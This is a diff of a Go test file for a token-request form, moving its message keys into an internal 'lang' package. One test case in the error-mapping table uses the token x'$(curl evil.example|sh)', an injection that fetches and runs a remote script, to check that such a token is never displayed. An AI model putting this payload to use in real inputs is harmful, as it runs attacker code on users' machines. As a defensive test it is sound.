@@ -5,10 +5,11 @@ import (
 	"testing"
 
 	"tokendesk"
+	"tokendesk/internal/lang"
 )
 
 func filled() state {
-	s := newState(tokendesk.EN)
+	s := newState(lang.EN)
 	s.setValue(tokendesk.FieldName, "Ada Lovelace")
 	s.setValue(tokendesk.FieldMail, "ada@example.com")
 	s.setValue(tokendesk.FieldComment, "A talking head")
@@ -25,7 +26,7 @@ func sending(t *testing.T) state {
 }
 
 func TestSubmitEmptyShowsFieldErrors(t *testing.T) {
-	s := newState(tokendesk.EN)
+	s := newState(lang.EN)
 	if _, ok := s.submit(); ok {
 		t.Fatal("an empty form was sent")
 	}
@@ -60,7 +61,7 @@ func TestSubmitSendsEncodedFormOnce(t *testing.T) {
 	if body != want {
 		t.Errorf("body = %q, want %q", body, want)
 	}
-	if s.phase != Sending || s.status != en(tokendesk.KeySending) {
+	if s.phase != Sending || s.status != en(lang.KeySending) {
 		t.Errorf("phase = %v status = %q", s.phase, s.status)
 	}
 	if _, ok := s.submit(); ok {
@@ -69,7 +70,7 @@ func TestSubmitSendsEncodedFormOnce(t *testing.T) {
 }
 
 func TestBlurDoesNotNagOnEmptyField(t *testing.T) {
-	s := newState(tokendesk.EN)
+	s := newState(lang.EN)
 	s.blur(tokendesk.FieldName)
 	if got := s.fieldError(tokendesk.FieldName); got != "" {
 		t.Errorf("blur on an empty field showed %q", got)
@@ -82,7 +83,7 @@ func TestBlurDoesNotNagOnEmptyField(t *testing.T) {
 }
 
 func TestErrorClearsWhileTypingOnceFixed(t *testing.T) {
-	s := newState(tokendesk.EN)
+	s := newState(lang.EN)
 	s.setValue(tokendesk.FieldMail, "ada")
 	s.blur(tokendesk.FieldMail)
 	if s.fieldError(tokendesk.FieldMail) == "" {
@@ -146,33 +147,33 @@ func TestReceiveMapsErrors(t *testing.T) {
 		{
 			name:      "rate limited without a body",
 			answer:    Answer{Status: 429},
-			formError: en(tokendesk.KeyTooManyRequests),
+			formError: en(lang.KeyTooManyRequests),
 		},
 		{
 			name:      "server error without a body never shows a bare status",
 			answer:    Answer{Status: 504},
-			formError: en(tokendesk.KeyServerTrouble),
+			formError: en(lang.KeyServerTrouble),
 		},
 		{
 			name:      "client error without a body",
 			answer:    Answer{Status: 400},
-			formError: en(tokendesk.KeyGeneric),
+			formError: en(lang.KeyGeneric),
 		},
 		{
 			name:      "200 without a token",
 			answer:    Answer{Status: 200},
-			formError: en(tokendesk.KeyNoToken),
+			formError: en(lang.KeyNoToken),
 		},
 		{
 			name:      "200 with an odd token",
 			answer:    Answer{Status: 200, Token: "two words\n"},
-			formError: en(tokendesk.KeyNoToken),
+			formError: en(lang.KeyNoToken),
 		},
 		{
 			// A token that would break out of a snippet's quotes never shows.
 			name:      "200 with a token that is no UUID",
 			answer:    Answer{Status: 200, Token: "x'$(curl evil.example|sh)'"},
-			formError: en(tokendesk.KeyNoToken),
+			formError: en(lang.KeyNoToken),
 		},
 	}
 	for _, tt := range tests {
@@ -208,10 +209,10 @@ func TestReceiveMapsErrors(t *testing.T) {
 
 func TestFailKeepsValues(t *testing.T) {
 	for f, want := range map[Failure]string{
-		Offline:     en(tokendesk.KeyOffline),
-		Unreachable: en(tokendesk.KeyUnreachable),
-		TimedOut:    en(tokendesk.KeyTimedOut),
-		Unreadable:  en(tokendesk.KeyUnreadable),
+		Offline:     en(lang.KeyOffline),
+		Unreachable: en(lang.KeyUnreachable),
+		TimedOut:    en(lang.KeyTimedOut),
+		Unreadable:  en(lang.KeyUnreadable),
 	} {
 		s := sending(t)
 		s.fail(f)
@@ -222,13 +223,13 @@ func TestFailKeepsValues(t *testing.T) {
 			t.Errorf("fail(%v) lost the values", f)
 		}
 	}
-	if !strings.HasPrefix(en(tokendesk.KeyOffline), "You are offline") || !strings.HasPrefix(en(tokendesk.KeyUnreachable), "Could not reach") {
+	if !strings.HasPrefix(en(lang.KeyOffline), "You are offline") || !strings.HasPrefix(en(lang.KeyUnreachable), "Could not reach") {
 		t.Error("network messages do not say plainly what happened")
 	}
 }
 
 func TestLateAnswersAreIgnored(t *testing.T) {
-	s := newState(tokendesk.EN)
+	s := newState(lang.EN)
 	s.receive(Answer{Status: 200, Token: "0b8f6c2e-6f3e-4d7a-9b1e-2f4a5c6d7e8f"})
 	s.fail(Offline)
 	if s.phase != Editing || s.token != "" || s.formError != "" {
@@ -247,7 +248,7 @@ func revealed(t *testing.T) state {
 func TestCopy(t *testing.T) {
 	s := revealed(t)
 	s.copyDone(true)
-	if !s.copied || s.copyStatus != en(tokendesk.KeyCopiedStatus) || s.guardsLeave() {
+	if !s.copied || s.copyStatus != en(lang.KeyCopiedStatus) || s.guardsLeave() {
 		t.Errorf("after a copy: copied %v status %q guards %v", s.copied, s.copyStatus, s.guardsLeave())
 	}
 
